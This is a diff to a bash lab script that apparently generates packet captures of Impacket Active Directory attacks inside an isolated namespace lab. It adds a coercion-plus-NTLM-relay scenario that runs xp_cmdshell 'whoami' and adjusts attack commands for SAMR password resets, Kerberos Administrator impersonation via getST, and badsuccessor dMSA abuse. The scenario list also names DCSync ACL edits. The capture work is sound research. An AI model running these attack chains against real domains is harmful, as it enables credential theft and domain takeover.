@@ -25,8 +25,8 @@
 #   LAB_SH           [../shared/lab/lab.sh next to the repository] the shared lab script
 #   IMPACKET_SRC     [clone of IMPACKET_URL]  a git directory (bare or checkout) holding IMPACKET_COMMIT
 #   IMPACKET_URL     [https://github.com/fortra/impacket]
-#   ISL_OUT          [/var/tmp/isl/pcaps]     pcaps + MANIFEST.tsv
-#   ISL_RESULTS      [/var/tmp/isl/results]   one log per run (tool output, exit codes)
+#   ISL_OUT          [$LAB_STATE/../isl/pcaps]    pcaps + MANIFEST.tsv
+#   ISL_RESULTS      [$LAB_STATE/../isl/results]  one log per run (tool output, exit codes)
 #   ISL_ANALYZE      [0]                      1 = also write lab.sh's tshark summaries per pcap
 #   LAB_STATE, LAB_NET, LAB_TOOL_TIMEOUT, ... as documented in lab.sh
 set -Eeuo pipefail
@@ -62,8 +62,8 @@ IMPACKET_COMMIT=f133bb889e21f5359136d519cd6933a78ca44996
 IMPACKET_URL=${IMPACKET_URL:-https://github.com/fortra/impacket}
 IMPACKET_CUR_VERSION=0.14.0.dev0+g${IMPACKET_COMMIT:0:8}
 CUR=$STATE/impacket-$IMPACKET_COMMIT
-OUT=${ISL_OUT:-/var/tmp/isl/pcaps}       # lab.sh's cap_start/analyze write to $OUT/$RES
-RES=${ISL_RESULTS:-/var/tmp/isl/results}
+OUT=${ISL_OUT:-$(dirname "$STATE")/isl/pcaps}       # lab.sh's cap_start/analyze write to $OUT/$RES
+RES=${ISL_RESULTS:-$(dirname "$STATE")/isl/results}
 TOOLS=$ISL_DIR/tools
 NS_DC2=labdc2 DC2_IP=$NET.4 DC2HOST=dc2 DC2FQDN=dc2.lab.test
 APACHE=$STATE/apache
@@ -232,9 +232,10 @@ apache_stop() {
 # the MS-TDS responder on ws01 (10.99.0.3:1433): started per scenario, ended by its PID
 TDS_PID=
 tds_start() {
+  load_secrets
   ip netns exec $NS_VIC /usr/bin/python3 "$TOOLS/tds_responder.py" --listen "$VIC_IP" --port 1433 --name SQL01 \
      --domain "$DOMAIN" --dns-domain "$DNSDOM" --user "$DOMAIN/da_carol:$CAROL_PW" --user "$DOMAIN/alice:$ALICE_PW" \
-     --user "$DOMAIN/Administrator:$ADMIN_PW" --xp-cmdshell-off > "$PWD/tds_responder.log" 2>&1 &
+     --user "$DOMAIN/Administrator:$ADMIN_PW" --user-hash "$DOMAIN/DC1\$:$DC_NT" --xp-cmdshell-off > "$PWD/tds_responder.log" 2>&1 &
   TDS_PID=$!
   local i; for i in $(seq 1 40); do ip netns exec $NS_VIC ss -Hltn | grep -q "$VIC_IP:1433 " && break; sleep 0.25; done
 }
@@ -300,6 +301,7 @@ ISL_SCENARIOS=(
   "atk_relay_smb_to_http|attack|010 014|ntlm_relay|ntlmrelayx SMB listener; victim da_carol@ws01 smbclient; relayed to the NTLM web service http://dc1/certsrv/ (Apache mod_auth_gssapi + gss-ntlmssp), --adcs certificate request post"
   "atk_relay_smb_to_mssql|attack|010 014|ntlm_relay|ntlmrelayx SMB listener; victim da_carol@ws01 smbclient; relayed to mssql://ws01:1433 (lab TDS responder), -q queries"
   "atk_coerce|attack|010 014|coercion|MS-EFSR EfsRpcOpenFileRaw/EfsRpcEncryptFileSrv over \\pipe\\lsarpc, EfsRpcOpenFileRaw over \\pipe\\efsrpc, MS-RPRN RpcRemoteFindFirstPrinterChangeNotificationEx, MS-DFSNM NetrDfsRemoveStdRoot with UNC paths naming the attacker (alice); then DC1\$ authenticates over SMB to the attacker's smbserver.py"
+  "atk_coerce_relay|attack|010 014|coercion&ntlm_relay|ntlmrelayx SMB listener relaying to mssql://ws01 (lab TDS responder, DC1\$ a login there); coercion (EfsRpcOpenFileRaw over \\pipe\\lsarpc, RpcRemoteFindFirstPrinterChangeNotificationEx) naming the attacker (alice); DC1\$ authenticates to the attacker and is relayed to MSSQL"
   "atk_mssqlclient|attack|010 014|mssql_abuse|mssqlclient.py -windows-auth da_carol to the lab TDS responder on ws01: NTLM in LOGIN7 SSPI, batches select @@version, enable_xp_cmdshell, xp_cmdshell whoami, xp_dirtree \\\\10.99.0.2\\share"
   "atk_dacledit|attack|014|acl_abuse|dacledit.py -action write -rights DCSync -principal alice on DC=lab,DC=test, then -action read (Administrator, LDAP NTLM)"
   "atk_owneredit|attack|014|acl_abuse|owneredit.py -action write -new-owner alice -target bob, then -action read (Administrator, LDAP NTLM)"
@@ -396,6 +398,21 @@ sc_atk_coerce() {
   kill -TERM "$SMBSRV_PID" 2>/dev/null || true; wait "$SMBSRV_PID" 2>/dev/null || true
   echo "---- smbserver output"; cat smbserver.log
 }
+# Coercion followed by the relay that uses it: DC1$'s authentication, made to the attacker's
+# ntlmrelayx SMB listener, is relayed to the SQL server on ws01 (DC1$ is a login there).
+sc_atk_coerce_relay() {
+  load_secrets
+  tds_start
+  relay_start smb "mssql://$VIC_IP" -q "select @@version" -q "exec master..xp_cmdshell 'whoami'"
+  # shellcheck disable=SC2046
+  X coerce atk $(implib) "$TOOLS/coerce.py" -u alice -p "$ALICE_PW" -d "$D" --listener "$ATK_IP" --target "$DC_IP" \
+    efsr-lsarpc rprn || true
+  sleep 1
+  X coerced-dc-smbclient indc_client smbclient -s "$STATE/dc-client.conf" --use-kerberos=off \
+    -U "$DOMAIN\\DC1\$" --pw-nt-hash "//$ATK_IP/share" "$DC_NT" -c 'ls' || true
+  relay_stop 5
+  tds_stop
+}
 indc_client() {  # a client on the DC's address (for the coerced leg)
   mkdir -p "$STATE/dc-client"/{cache,lock,state,private}
   cat > "$STATE/dc-client.conf" <<EOF
@@ -460,7 +477,8 @@ sc_atk_changepasswd() {
   bob_reset; X samr-rpc ak $(imp changepasswd) -newpass "$BOB_NEW2" -protocol rpc-samr "$D/bob:$BOB_PW@$DC_IP" || true
   bob_reset; X kpasswd ak $(imp changepasswd) -newpass "$BOB_NEW3" -protocol kpasswd -dc-ip "$DC_IP" "$KD/bob:$BOB_PW@$DCFQDN" || true
   bob_reset; X ldap ak $(imp changepasswd) -newpass "$BOB_NEW4" -protocol ldap -dc-ip "$DC_IP" "$D/bob:$BOB_PW@$DC_IP" || true
-  X reset-samr ak $(imp changepasswd) -reset -altuser "$D/Administrator" -altpass "$ADMIN_PW" -newpass "$BOB_NEW1" -protocol smb-samr "$D/bob@$DC_IP" || true
+  # SAMR resets want the NetBIOS domain (SamrLookupDomainInSamServer): LAB, not lab.test
+  X reset-samr ak $(imp changepasswd) -reset -altuser "$DOMAIN/Administrator" -altpass "$ADMIN_PW" -newpass "$BOB_NEW1" -protocol smb-samr "$DOMAIN/bob@$DC_IP" || true
   X reset-ldap ak $(imp changepasswd) -reset -altuser "$D/Administrator" -altpass "$ADMIN_PW" -newpass "$BOB_NEW2" -protocol ldap -dc-ip "$DC_IP" "$D/bob@$DC_IP" || true
   bob_reset
 }
@@ -481,7 +499,7 @@ sc_atk_getST_variants() {
   export COMPAT=1
   X getST-self ak $(imp getST) -self -impersonate Administrator -dc-ip "$DC_IP" "$KD/svc_web:$WEB_PW" || true
   X getST-altservice ak $(imp getST) -spn "cifs/$DCFQDN" -altservice "host/$DCFQDN" -impersonate Administrator -dc-ip "$DC_IP" "$KD/svc_web:$WEB_PW" || true
-  X getST-u2u ak $(imp getST) -u2u -impersonate Administrator -dc-ip "$DC_IP" "$KD/alice:$ALICE_PW" || true
+  X getST-u2u ak $(imp getST) -u2u -self -impersonate Administrator -dc-ip "$DC_IP" "$KD/alice:$ALICE_PW" || true
 }
 sc_atk_getPac() { export COMPAT=1; X getPac ak $(imp getPac) -targetUser Administrator "$KD/alice:$ALICE_PW" || true; }
 sc_atk_services_verbs() {
@@ -543,7 +561,7 @@ sc_atk_tstool() {
 }
 sc_atk_badsuccessor() {
   X badsuccessor-search ak $(imp badsuccessor) -action search -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true
-  X badsuccessor-add ak $(imp badsuccessor) -action add -dmsa-name evildmsa -target-account Administrator -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true
+  X badsuccessor-add ak $(imp badsuccessor) -action add -dmsa-name evildmsa -target-account Administrator -target-ou "OU=Domain Controllers,$BASEDN" -dc-ip "$DC_IP" "$D/alice:$ALICE_PW" || true
 }
 sc_atk_keylistattack() {
   load_secrets
